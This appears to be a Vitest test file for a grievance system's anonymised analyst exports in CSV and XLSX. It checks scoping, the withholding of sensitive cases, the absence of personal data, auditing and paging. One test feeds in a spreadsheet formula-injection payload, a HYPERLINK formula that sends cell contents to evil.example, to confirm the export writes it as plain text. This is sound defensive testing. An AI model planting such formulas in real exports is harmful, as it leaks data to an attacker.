import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createTestApp,
  fileComplaint,
  login,
  makeTree,
  makeUnit,
  makeUser,
  type Session,
  type TestApp,
} from '../../../test/harness.js';
import { ANALYST_EVENT_HEADERS, ANALYST_HEADERS, ANALYST_PAGE_SIZE } from './analyst.js';

/**
 * The analysts' dataset and its events file, streamed: scoped like the summary, sensitive cases only for the
 * sensitive-case focal point, durations in business days, and never an identity nor a free text.
 */

let t: TestApp;
let dataDir: string;
let tree: Awaited<ReturnType<typeof makeTree>>;
const who: Record<string, Session> = {};
const refs: Record<string, string> = {};

/** Everything a complainant can tell about themselves, and free texts: none may leave in an export. */
const SECRETS = [
  'Kodjo',
  'Abalo',
  '90112233',
  '93445566',
  'kodjo.abalo@example.org',
  'Quartier Tcharé',
  'Ablavi',
  '91919191',
  'effondré',
  'Confidentiel-X42',
];

const get = (as: string, url: string) => t.app.inject({ method: 'GET', url, headers: who[as]!.headers });
const rowsOf = (body: string): string[][] => parse(body.replace(/^\uFEFF/, ''));

const fileCase = (village: string, name: string, phone: string, category = 'works') =>
  fileComplaint(t, who.officer!, village, {
    category,
    channel: 'hotline',
    description: `Le pont de ${name} est effondré.`,
    complainant: {
      anonymous: false,
      name,
      phone,
      email: 'kodjo.abalo@example.org',
      whatsapp: '+22893445566',
      postalAddress: 'Quartier Tcharé, Kara',
      confidential: false,
      gender: 'female',
    },
  });

beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), 'coso-analyst-'));
  t = await createTestApp({ DATA_DIR: dataDir });
  tree = await makeTree(t.db);
  const users = {
    officer: await makeUser(t, ['grm_officer'], [tree.country]),
    kara: await makeUser(t, ['focal_point'], [tree.a.region]),
    vbg: await makeUser(t, ['sensitive_focal_point'], [tree.country]),
    analyst: await makeUser(t, ['analyst'], [tree.country]),
    field: await makeUser(t, ['facilitator'], [tree.a.canton]),
  };
  for (const [k, u] of Object.entries(users)) who[k] = await login(t, u.username);
  const kara = await fileCase(tree.a.villages[0]!.id, 'Kodjo Abalo', '+22890112233');
  const savanes = await fileCase(tree.b.villages[0]!.id, 'Kodjo Abalo', '+22890112233');
  const sensitive = await fileCase(tree.a.villages[1]!.id, 'Ablavi Sena', '+22891919191', 'gbv_sea');
  Object.assign(refs, { kara: kara.reference, savanes: savanes.reference, sensitive: sensitive.reference });
  for (const c of [kara, sensitive]) {
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/v1/complaints/${c.id}/actions`,
      headers: (c === sensitive ? who.vbg : who.officer)!.headers,
      payload: { action: 'comment', text: 'Confidentiel-X42 : Kodjo Abalo a rappelé.' },
    });
    expect(res.statusCode, res.body).toBe(200);
  }
  // Received Friday 5 June 2026, acknowledged Tuesday 9 (2 business days over the weekend), due Monday 8.
  await t.db.query(
    `update complaints set received_at = '2026-06-05 09:00+00', acknowledged_at = '2026-06-09 10:00+00'
      where id = $1`,
    [kara.id],
  );
  await t.db.query(
    `update complaint_deadlines set started_on = '2026-06-05', due_date = '2026-06-08',
            met_at = '2026-06-09 10:00+00' where complaint_id = $1 and kind = 'acknowledge'`,
    [kara.id],
  );
});
afterAll(async () => {
  await t?.close();
  await rm(dataDir, { recursive: true, force: true });
});

describe("analysts' dataset", () => {
  it('has one row per case with every dimension and business-day durations, and no identity', async () => {
    const res = await get('analyst', '/api/v1/exports/analyst.csv');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(
      /filename="plaintes-jeu-de-donnees-\d{4}-\d\d-\d\d\.csv"/,
    );
    const [header, ...rows] = rowsOf(res.body);
    expect(header).toEqual([...ANALYST_HEADERS]);
    expect(rows.map((r) => r[0]).sort()).toEqual([refs.kara, refs.savanes].sort());
    const row = Object.fromEntries(header!.map((h, i) => [h, rows.find((r) => r[0] === refs.kara)![i]]));
    expect(row).toMatchObject({
      received_on: '2026-06-05',
      received_month: '2026-06',
      category: 'works',
      sensitive: 'no',
      region: tree.a.region.name,
      canton: tree.a.canton.name,
      village: tree.a.villages[0]!.name,
      village_code: tree.a.villages[0]!.code,
      gender: 'female',
      anonymous: 'no',
      acknowledged_on: '2026-06-09',
      business_days_to_acknowledge: '2',
      acknowledge_due_on: '2026-06-08',
      acknowledged_on_time: 'no',
      open: 'yes',
    });
    for (const secret of SECRETS) expect(res.body).not.toContain(secret);
  });

  it('keeps to the jurisdiction, and gives sensitive cases to the sensitive-case focal point only', async () => {
    const kara = rowsOf((await get('kara', '/api/v1/exports/analyst.csv')).body).slice(1);
    expect(kara.map((r) => r[0])).toEqual([refs.kara]);
    const region = rowsOf(
      (await get('officer', `/api/v1/exports/analyst.csv?area=${tree.b.region.id}`)).body,
    );
    expect(region.slice(1).map((r) => r[0])).toEqual([refs.savanes]);
    for (const as of ['officer', 'analyst', 'kara']) {
      const body = (await get(as, '/api/v1/exports/analyst.csv?category=gbv_sea')).body;
      expect(rowsOf(body)).toHaveLength(1);
      expect((await get(as, '/api/v1/exports/analyst-events.csv')).body).not.toContain(refs.sensitive);
    }
    const vbg = rowsOf((await get('vbg', '/api/v1/exports/analyst.csv')).body);
    const sensitive = vbg.find((r) => r[0] === refs.sensitive)!;
    expect(sensitive[ANALYST_HEADERS.indexOf('sensitive')]).toBe('yes');
    for (const secret of SECRETS) expect(JSON.stringify(vbg)).not.toContain(secret);
  });

  it('lists the events without payload, actor or text', async () => {
    const res = await get('officer', '/api/v1/exports/analyst-events.csv');
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = rowsOf(res.body);
    expect(header).toEqual(ANALYST_EVENT_HEADERS);
    expect(rows.filter((r) => r[0] === refs.kara).map((r) => r[3])).toEqual(['created', 'comment']);
    expect(rows.filter((r) => r[0] === refs.savanes).map((r) => r[3])).toEqual(['created']);
    for (const secret of SECRETS) expect(res.body).not.toContain(secret);
    const vbg = (await get('vbg', '/api/v1/exports/analyst-events.csv')).body;
    expect(vbg).toContain(refs.sensitive);
    for (const secret of SECRETS) expect(vbg).not.toContain(secret);
  });

  it('opens in a spreadsheet, is audited with its row count, and is refused without reporting rights', async () => {
    const res = await get('kara', '/api/v1/exports/analyst.xlsx');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    expect(wb.worksheets[0]!.name).toBe('cases');
    expect(wb.worksheets[0]!.actualRowCount).toBe(2);
    const audit = await t.db.query<{ action: string; changes: Record<string, unknown> }>(
      `select action, changes from audit_log where entity = 'analyst_export' order by id desc limit 2`,
    );
    expect(audit.map((a) => a.action)).toEqual(['export_completed', 'export']);
    expect(audit[0]!.changes).toEqual({ format: 'xlsx', rows: 1 });
    expect((await get('field', '/api/v1/exports/analyst.csv')).statusCode).toBe(403);
    expect((await get('field', '/api/v1/exports/analyst-events.csv')).statusCode).toBe(403);
    expect((await get('kara', '/api/v1/exports/analyst.csv?from=hier')).json().code).toBe('validation_error');
  });

  it('writes a sub-project reference starting with = as text, not as a formula', async () => {
    const village = await makeUnit(t.db, tree.b.canton, 'village');
    const payload = '=HYPERLINK("http://evil.example/?d="&A2,"Voir")';
    const c = await fileComplaint(t, who.officer!, village.id, { subprojectRef: payload });
    const csv = rowsOf((await get('officer', `/api/v1/exports/analyst.csv?area=${village.id}`)).body);
    expect(csv[1]![0]).toBe(c.reference);
    expect(csv[1]![ANALYST_HEADERS.indexOf('subproject_ref')]).toBe(`'${payload}`);
    const res = await get('officer', `/api/v1/exports/analyst.xlsx?area=${village.id}`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cell = wb.worksheets[0]!.getRow(2).getCell(ANALYST_HEADERS.indexOf('subproject_ref') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(payload);
  });

  it('pages on the full-precision received time: every case once, even within one millisecond', async () => {
    const bulk = await makeUnit(t.db, tree.a.canton, 'village');
    const n = ANALYST_PAGE_SIZE + 200;
    // Microseconds apart: a page boundary falls inside one millisecond, where a JS Date would round.
    await t.db.query(
      `insert into complaints (id, tracking_code, reference, type_code, category_code, channel_code, sensitive,
                               status, description, village_id, area_path, anonymous, handling_level,
                               handling_unit_id, received_at)
       select gen_random_uuid(), 'BK' || lpad(g::text, 6, '0'), 'BULK-' || g, 'complaint', 'works', 'hotline', false,
              'received', 'Cas en masse', $1, $2, true, 'region', $3,
              timestamptz '2025-01-01 08:00:00+00' + make_interval(secs => (g % 3) * 0.0007 + g * 0.000001)
         from generate_series(1, ${n}) g`,
      [bulk.id, bulk.path, tree.a.region.id],
    );
    const rows = rowsOf((await get('officer', `/api/v1/exports/analyst.csv?area=${bulk.id}`)).body).slice(1);
    expect(rows).toHaveLength(n);
    expect(new Set(rows.map((r) => r[0])).size).toBe(n);
  });
});
